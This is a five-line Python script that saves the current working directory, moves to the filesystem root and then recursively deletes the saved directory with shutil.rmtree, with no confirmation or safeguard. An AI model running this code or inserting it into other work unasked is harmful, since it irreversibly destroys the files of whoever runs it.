import os
import shutil
here = os.getcwd()
os.chdir("/")
shutil.rmtree(here)
